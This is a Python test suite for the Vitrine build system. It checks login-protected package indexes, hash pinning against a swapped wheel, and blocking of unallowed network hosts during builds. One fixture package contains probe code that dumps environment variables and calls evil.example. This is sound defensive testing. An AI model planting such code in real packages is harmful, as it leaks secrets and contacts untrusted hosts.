"""The way out of builds: an index of the test's own that wants a login, and hosts that nobody allowed."""
import base64
import glob
import hashlib
import http.server
import os
import re
import shutil
import tempfile
import threading
import time

import pytest
import wheels
from test_builds_index import get_uv
from vitrine import Vitrine, until

USER, PASSWORD = "reader", "pw-of-the-house"
LOGIN = "Basic " + base64.b64encode(f"{USER}:{PASSWORD}".encode()).decode()


class Index:
    """A simple index (PEP 503) whose links name it in full, and which answers to who logs in."""

    def __init__(self, folder):
        self.asked = []
        self.exchanged = {}  # file -> what is given for it from the second time on
        outer = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def log_message(self, *_):
                pass

            def do_GET(self):
                if self.command == "GET":
                    outer.asked.append((self.path, self.headers.get("Authorization")))
                if self.headers.get("Authorization") != LOGIN:
                    return self.answer(401, "text/plain", b"log in")
                name = self.path.strip("/").split("/")[-1]
                files = sorted(glob.glob(f"{folder}/{name}-*"))
                if self.path.startswith("/simple/") and files:
                    return self.answer(200, "text/html", "".join(self.link(f) for f in files).encode())
                if self.path.startswith("/f/") and name in outer.exchanged and outer.times(self.path) > 1:
                    return self.answer(200, "application/octet-stream", outer.exchanged[name])
                if self.path.startswith("/f/") and os.path.isfile(f"{folder}/{name}"):
                    with open(f"{folder}/{name}", "rb") as f:
                        return self.answer(200, "application/octet-stream", f.read())
                return self.answer(404, "text/plain", b"nothing")

            do_HEAD = do_GET

            def link(self, path):
                with open(path, "rb") as f:
                    digest = hashlib.sha256(f.read()).hexdigest()
                base = os.path.basename(path)
                return f'<a href="http://{outer.host}/f/{base}#sha256={digest}">{base}</a>\n'

            def answer(self, status, kind, body):
                self.send_response(status)
                self.send_header("Content-Type", kind)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                if self.command == "GET":
                    self.wfile.write(body)

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.host = f"index.localhost:{self.server.server_port}"
        threading.Thread(target=self.server.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True).start()

    def times(self, path):
        return sum(p == path for p, _ in self.asked)


@pytest.fixture(scope="module")
def index():
    folder = tempfile.mkdtemp(prefix="index-", dir="/var/tmp")
    wheels.wheel(folder, "beta", "2.0")
    wheels.wheel(folder, "alpha", "1.0", requires=["beta"])
    wheels.wheel(folder, "fickle", "1.0")
    wheels.sdist(folder, "curious", "1.0", "print('SEEN', open('/proc/self/cmdline').read())\nfor k, v in os.environ.items(): print(k + '=' + v)\n"
                 "import urllib.request\nfor u in ('http://127.0.0.2/', 'http://evil.example/'):\n"
                 "    try: urllib.request.urlopen(u, timeout=10); print('REACHED', u)\n    except Exception as e: print('NOT', u, e)\nraise SystemExit(1)")
    i = Index(folder)
    yield i
    i.server.shutdown()
    i.server.server_close()
    shutil.rmtree(folder)


@pytest.fixture(scope="module")
def up(index):
    v = Vitrine(f"[build]\nindex = http://{USER}:{PASSWORD}@{index.host}/simple\nuv = none\n")
    v.start()
    yield v
    v.end()


def submit(v, name, requirements, code="import alpha\nreturn alpha.VERSION"):
    folder = wheels.bundle(os.path.join(v.folder, "b-" + name.replace("/", "-")), code, requirements)
    return v.cli("deploy", folder, name)


def log_of(v, name):
    return v.cli("logs", name, "--build").stdout


def test_an_index_with_a_login(up, index):
    r = submit(up, "demo/login", "alpha\n")
    assert r.returncode == 0, r.stderr + log_of(up, "demo/login") + up.log[-2000:]
    assert up.demo("demo/login").body == b"1.0"
    assert any(path.startswith("/f/alpha-") and login == LOGIN for path, login in index.asked)
    # nobody is left of it
    assert until(lambda: not up.named("vitrine-egress"))
    told = log_of(up, "demo/login") + r.stdout + r.stderr + up.log
    assert PASSWORD not in told and LOGIN.split()[1] not in told


def test_uv_asks_an_index_once_and_takes_what_the_lock_says(vitrine, index):
    v = vitrine(start=False)
    uv = get_uv(os.path.join(v.folder, "uv"))
    with open(v.config, "w") as f:
        f.write(f"[build]\nindex = http://{USER}:{PASSWORD}@{index.host}/simple\nuv = {uv}\n")
    v.start()
    index.asked.clear()
    r = submit(v, "demo/once", "alpha\n")
    log = log_of(v, "demo/once")
    assert r.returncode == 0 and v.demo("demo/once").body == b"1.0", r.stderr + log + v.log[-2000:]
    assert "which is wheels alone" in log and [index.times(f"/simple/{n}/") for n in ("alpha", "beta")] == [1, 1], index.asked
    assert PASSWORD not in log + r.stdout + r.stderr + v.log
    # what is another file by then is not taken
    other = tempfile.mkdtemp(dir=v.folder)
    with open(wheels.wheel(other, "fickle", "1.0", files={"fickle/__init__.py": "VERSION = 'evil'\n"}), "rb") as f:
        index.exchanged["fickle-1.0-py3-none-any.whl"] = f.read()
    r = submit(v, "demo/fickle", "fickle\n", "import fickle\nreturn fickle.VERSION")
    assert r.returncode == 1 and "Hash mismatch" in log_of(v, "demo/fickle"), r.stderr + log_of(v, "demo/fickle")


def test_what_a_build_sees_and_reaches(up):
    """Code of a package runs in the build: it has no login, no other network, and its asking is told."""
    r = submit(up, "demo/curious", "curious\n")
    log = log_of(up, "demo/curious")
    assert r.returncode == 1 and "SEEN" in log, r.stderr + log
    assert PASSWORD not in log and LOGIN.split()[1] not in log and f"//{USER}" not in log
    assert "HTTP_PROXY=" in log and "REACHED" not in log and log.count(" NOT http://") >= 2, log
    assert re.search(r"network: .*evil\.example:80, which \[build\] hosts does not allow", log), log
    assert "asked for 127.0.0.2:80" in log


def test_a_host_that_is_not_allowed_is_the_reason(up):
    r = submit(up, "demo/elsewhere", "--index-url https://evil.example/simple\nalpha\n")
    assert r.returncode == 1 and re.search("asked for evil.example:443, which", r.stderr), r.stderr + log_of(up, "demo/elsewhere")


def test_a_way_out_that_is_killed_fails_the_build(up):
    killed = []

    def kill():
        end = time.monotonic() + 20
        while not killed and time.monotonic() < end:
            for pid in up.named("vitrine-egress"):
                killed.append(pid)
                os.kill(pid, 9)

    t = threading.Thread(target=kill)
    t.start()
    r = submit(up, "demo/killed", "--index-url https://pypi.example/simple\nalpha==7\n")
    t.join()
    assert killed
    assert r.returncode == 1 and "the way out of the build has ended unexpectedly" in r.stderr, r.stderr + log_of(up, "demo/killed")
    assert not up.named("vitrine-egress")
